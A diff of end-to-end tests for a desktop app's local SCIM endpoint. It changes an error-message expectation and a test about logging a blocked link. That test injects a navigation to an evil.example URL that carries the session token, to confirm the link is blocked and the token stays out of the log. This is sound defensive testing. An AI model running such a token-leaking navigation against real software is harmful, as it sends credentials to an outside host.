@@ -96,7 +96,9 @@ test('what keeps the endpoint from listening again is said in the tray and in a 
   await controls.chooseInTray('Listen again')
   await expect
     .poll(async () => (await controls.boxes()).map(({ message }) => message))
-    .toEqual([`The SCIM endpoint cannot listen: Port ${port} on 127.0.0.1 is in use by another program.`])
+    .toEqual([
+      `The SCIM endpoint cannot listen: Port ${port} on 127.0.0.1 is in use by another program. Choose another port, or stop that program.`,
+    ])
   expect((await controls.tray())?.items[0]?.label).toContain('Not listening')
   await new Promise((resolve) => {
     other.close(resolve)
@@ -113,7 +115,7 @@ test('what keeps the endpoint from listening again is said in the tray and in a 
     .toBe(401)
 })
 
-test('the menu shows the log, which holds no token', async ({ launch }) => {
+test('what goes wrong is written beside the data, without a token in it', async ({ launch }) => {
   const desktop = await launch()
   const page = await desktop.page()
   await expect(page.getByText('Listening')).toBeVisible()
@@ -123,11 +125,10 @@ test('the menu shows the log, which holds no token', async ({ launch }) => {
   await expect(async () => expect((await okta.get('/Users')).status).toBe(200)).toPass()
   await page.evaluate((text) => location.assign(`https://evil.example/?${text}`), token)
   await expect.poll(() => desktop.stderr()).toContain('evil.example')
-  await desktop.controls.chooseInMenu('Show the log')
-  const [log = ''] = await desktop.controls.openedOutside()
-  expect(log).toBe(join(desktop.dataDir, 'desktop/rollcall.log'))
-  const text = readFileSync(log, 'utf8')
-  expect(text).toMatch(/^\d{4}-\d\d-\d\dT\S+Z A link to https:\/\/evil\.example was not opened/m)
+  await desktop.controls.chooseInMenu('Open the data directory')
+  expect(await desktop.controls.openedOutside()).toEqual([desktop.dataDir])
+  const text = readFileSync(join(desktop.dataDir, 'troubles.log'), 'utf8')
+  expect(JSON.parse(text)).toMatchObject({ message: expect.stringContaining('A link to https://evil.example was not') })
   expect(text).not.toContain(token.slice(11))
 })
 
